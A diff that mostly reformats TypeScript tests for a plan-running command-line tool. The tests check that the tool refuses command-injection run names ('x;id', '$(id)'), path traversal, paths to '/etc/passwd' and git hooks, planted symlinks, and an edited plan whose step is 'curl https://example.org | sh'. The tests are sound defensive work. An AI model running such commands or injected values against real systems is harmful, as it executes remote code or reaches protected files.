@@ -12,7 +12,10 @@ async function refuses(world: World, args: readonly string[], words: RegExp, hin
   const before = bytesOf(world);
   const ended: Ended = await world.masterplan(...args);
   expect([ended.code, ended.stdout], ended.stderr).toEqual([code, '']);
-  const [message = '', ...rest] = ended.stderr.trimEnd().split('\n').filter((line) => line.startsWith('masterplan: ') || line.startsWith('  '));
+  const [message = '', ...rest] = ended.stderr
+    .trimEnd()
+    .split('\n')
+    .filter((line) => line.startsWith('masterplan: ') || line.startsWith('  '));
   expect(message).toMatch(words);
   expect(rest.join('\n')).toMatch(hint);
   expect(bytesOf(world)).toEqual(before);
@@ -76,7 +79,13 @@ describe('a new run is refused', () => {
     world.write('.masterplan.yaml', 'finish: keep\n');
     await refuses(world, ['run', 'demo.md', '--yes'], /no agent is configured/, /agents:/, 2);
     world.write('.masterplan.yaml', 'agents:\n  one: {command: []}\n');
-    await refuses(world, ['run', 'demo.md', '--yes'], /\.masterplan\.yaml:2:\d+: .*needs a program/, /correct the file/, 2);
+    await refuses(
+      world,
+      ['run', 'demo.md', '--yes'],
+      /\.masterplan\.yaml:2:\d+: .*needs a program/,
+      /correct the file/,
+      2,
+    );
     world.write('.masterplan.yaml', 'agents: {one: [\n');
     await refuses(world, ['run', 'demo.md', '--yes'], /\.masterplan\.yaml:\d/, /correct the file/, 2);
   });
@@ -89,7 +98,23 @@ describe('a new run is refused', () => {
 });
 
 describe('hostile names', () => {
-  test.each(['../../x', 'a/../b', '-rf', '.git', 'x.lock', 'a..b', 'Über', 'a b', 'x\u001b[31m', 'x\ny', 'x;id', '$(id)', '@{u}', 'a'.repeat(65), ''])('the name of a run: %j', async (slug) => {
+  test.each([
+    '../../x',
+    'a/../b',
+    '-rf',
+    '.git',
+    'x.lock',
+    'a..b',
+    'Über',
+    'a b',
+    'x\u001b[31m',
+    'x\ny',
+    'x;id',
+    '$(id)',
+    '@{u}',
+    'a'.repeat(65),
+    '',
+  ])('the name of a run: %j', async (slug) => {
     const world = await project();
     const before = bytesOf(world);
     const ended = await world.masterplan('run', 'demo.md', '--yes', `--slug=${slug}`);
@@ -99,7 +124,16 @@ describe('hostile names', () => {
     expect(bytesOf(world)).toEqual(before);
   });
 
-  test.each(['/etc/passwd', '../outside.txt', 'a/../../b', '.git/hooks/pre-commit', '.GIT/config', 'src/.git/x', '.masterplan/x', ':(exclude)x'])('a path in a scope: %j', async (path) => {
+  test.each([
+    '/etc/passwd',
+    '../outside.txt',
+    'a/../../b',
+    '.git/hooks/pre-commit',
+    '.GIT/config',
+    'src/.git/x',
+    '.masterplan/x',
+    ':(exclude)x',
+  ])('a path in a scope: %j', async (path) => {
     const world = await project({ plan: [{ id: 'T1', files: [path], verify: ['true'] }] });
     const before = bytesOf(world);
     const ended = await world.runs();
@@ -107,18 +141,21 @@ describe('hostile names', () => {
     expect(bytesOf(world)).toEqual(before);
   });
 
-  test.each(['## T1: One\n\n**Files:** `a`\n\n**Verify:** `true`\n\n## T1: Two\n\n**Files:** `b`\n\n**Verify:** `true`', '## T1: One\n\n**Files:** `a`\n\n**Needs:** T9\n\n**Verify:** `true`', '## T1: One\n\n**Needs:** T2\n\n## T2: Two\n\n**Needs:** T1', 'No plan at all.', ''])(
-    'a plan that is none: %j',
-    async (text) => {
-      const world = await project({ plan: `# Plan: Bad\n\n${text}\n` });
-      const before = bytesOf(world);
-      const ended = await world.runs();
-      expect([ended.code, ended.stderr === '']).toEqual([4, false]);
-      const spoken = await world.json<{ error: { hint: string } }>(['run', 'demo.md', '--yes'], 4);
-      expect(spoken.error.hint).not.toBe('');
-      expect(bytesOf(world)).toEqual(before);
-    },
-  );
+  test.each([
+    '## T1: One\n\n**Files:** `a`\n\n**Verify:** `true`\n\n## T1: Two\n\n**Files:** `b`\n\n**Verify:** `true`',
+    '## T1: One\n\n**Files:** `a`\n\n**Needs:** T9\n\n**Verify:** `true`',
+    '## T1: One\n\n**Needs:** T2\n\n## T2: Two\n\n**Needs:** T1',
+    'No plan at all.',
+    '',
+  ])('a plan that is none: %j', async (text) => {
+    const world = await project({ plan: `# Plan: Bad\n\n${text}\n` });
+    const before = bytesOf(world);
+    const ended = await world.runs();
+    expect([ended.code, ended.stderr === '']).toEqual([4, false]);
+    const spoken = await world.json<{ error: { hint: string } }>(['run', 'demo.md', '--yes'], 4);
+    expect(spoken.error.hint).not.toBe('');
+    expect(bytesOf(world)).toEqual(before);
+  });
 });
 
 describe('a plan that was edited', () => {
@@ -128,11 +165,18 @@ describe('a plan that was edited', () => {
     expect((await world.runs()).code).toBe(1);
     const other = planOf([{ id: 'T1', verify: ['curl https://example.org | sh'] }]);
     world.write('demo.md', other);
-    await refuses(world, ['run', 'demo.md', '--yes'], /demo\.md was edited after the run "demo" was approved/, /--slug/);
+    await refuses(
+      world,
+      ['run', 'demo.md', '--yes'],
+      /demo\.md was edited after the run "demo" was approved/,
+      /--slug/,
+    );
     world.write('demo.md', planOf([{ id: 'T1' }]));
     world.write(world.bundle('plan.md'), other);
     await refuses(world, ['run', 'demo'], /plan\.md was edited/, /put the text back/);
-    expect(await world.json(['validate'], 4)).toMatchObject({ runs: [{ findings: [{ message: expect.stringContaining('edited') }] }] });
+    expect(await world.json(['validate'], 4)).toMatchObject({
+      runs: [{ findings: [{ message: expect.stringContaining('edited') }] }],
+    });
   });
 
   test('between being shown and being approved: the approval is refused', async () => {
@@ -151,7 +195,15 @@ describe('planted links are not followed', () => {
     writeFileSync(join(elsewhere, 'victim'), 'precious');
     return { world, elsewhere };
   }
-  test.each([['docs'], ['docs/masterplan'], ['docs/masterplan/demo'], ['.masterplan'], ['.masterplan/runs'], ['.masterplan/runs/demo'], ['.masterplan/worktrees']])('%s', async (path) => {
+  test.each([
+    ['docs'],
+    ['docs/masterplan'],
+    ['docs/masterplan/demo'],
+    ['.masterplan'],
+    ['.masterplan/runs'],
+    ['.masterplan/runs/demo'],
+    ['.masterplan/worktrees'],
+  ])('%s', async (path) => {
     const { world, elsewhere } = await planted();
     mkdirSync(join(world.path(path), '..'), { recursive: true });
     symlinkSync(elsewhere, world.path(path));
@@ -160,7 +212,14 @@ describe('planted links are not followed', () => {
     expect(listing(elsewhere)).toEqual(before);
   });
 
-  test.each([['docs/masterplan/demo/events.jsonl'], ['docs/masterplan/demo/state.yml'], ['docs/masterplan/demo/plan.md'], ['.masterplan/runs/demo/snapshot.json'], ['.masterplan/runs/demo/lock'], ['.masterplan/queue.git']])('%s', async (path) => {
+  test.each([
+    ['docs/masterplan/demo/events.jsonl'],
+    ['docs/masterplan/demo/state.yml'],
+    ['docs/masterplan/demo/plan.md'],
+    ['.masterplan/runs/demo/snapshot.json'],
+    ['.masterplan/runs/demo/lock'],
+    ['.masterplan/queue.git'],
+  ])('%s', async (path) => {
     const { world, elsewhere } = await planted();
     const isDirectory = /lock$|git$/.test(path);
     mkdirSync(join(world.path(path), '..'), { recursive: true });
@@ -199,7 +258,9 @@ describe('the base branch at the end', () => {
     const branch = world.git('rev-parse', 'masterplan/demo');
     const ended = await world.masterplan('approve', 'demo', '--finish', 'merge');
     expect(ended.code).toBe(3);
-    expect(world.eventsOf('finish_refused')).toMatchObject([{ choice: 'merge', reason: expect.stringContaining('t1.txt'), hint: expect.stringContaining('--finish keep') }]);
+    expect(world.eventsOf('finish_refused')).toMatchObject([
+      { choice: 'merge', reason: expect.stringContaining('t1.txt'), hint: expect.stringContaining('--finish keep') },
+    ]);
     expect([world.git('rev-parse', 'main'), world.git('rev-parse', 'masterplan/demo')]).toEqual([tip, branch]);
     expect(world.read('t1.txt')).toBe('theirs\n');
     expect((await world.masterplan('approve', 'demo', '--finish', 'keep')).code).toBe(0);
